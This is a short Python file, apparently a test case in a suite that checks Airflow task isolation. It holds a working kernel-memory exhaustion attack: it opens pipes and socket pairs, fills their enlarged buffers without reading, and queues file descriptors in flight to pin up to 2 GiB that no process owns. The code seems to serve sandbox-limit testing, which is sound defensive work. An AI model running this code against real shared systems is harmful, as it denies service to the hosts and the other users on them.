"""Takes memory that is in no process: pipes, sockets that nobody reads, descriptors on their way."""

import fcntl
import os
import socket
from contextlib import suppress

from airflow_attack import attack, broken, tried


def work() -> None:
    taken = 0
    held = []
    try:
        while taken < 2 << 30:
            reads, writes = os.pipe()
            held.append((reads, writes))
            os.set_blocking(writes, False)
            with suppress(OSError):
                fcntl.fcntl(writes, fcntl.F_SETPIPE_SZ, 1 << 20)
            taken += _fill(lambda writes=writes: os.write(writes, b"x" * (1 << 16)))
            ours, theirs = socket.socketpair()
            held.append((ours, theirs))
            ours.setblocking(False)
            ours.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
            taken += _fill(lambda ours=ours: ours.send(b"x" * (1 << 16)))
            taken += _fill(lambda ours=ours: len(socket.send_fds(ours, [b"x"], [1] * 200)) * 200)
    except OSError as error:
        tried(f"after {taken >> 20} MiB in the kernel: {error}")
    else:
        broken(f"{taken >> 20} MiB of the kernel's memory")


def _fill(write) -> int:
    taken = 0
    with suppress(OSError):
        while taken < 1 << 26:
            taken += write()
    return taken


dag = attack(work)
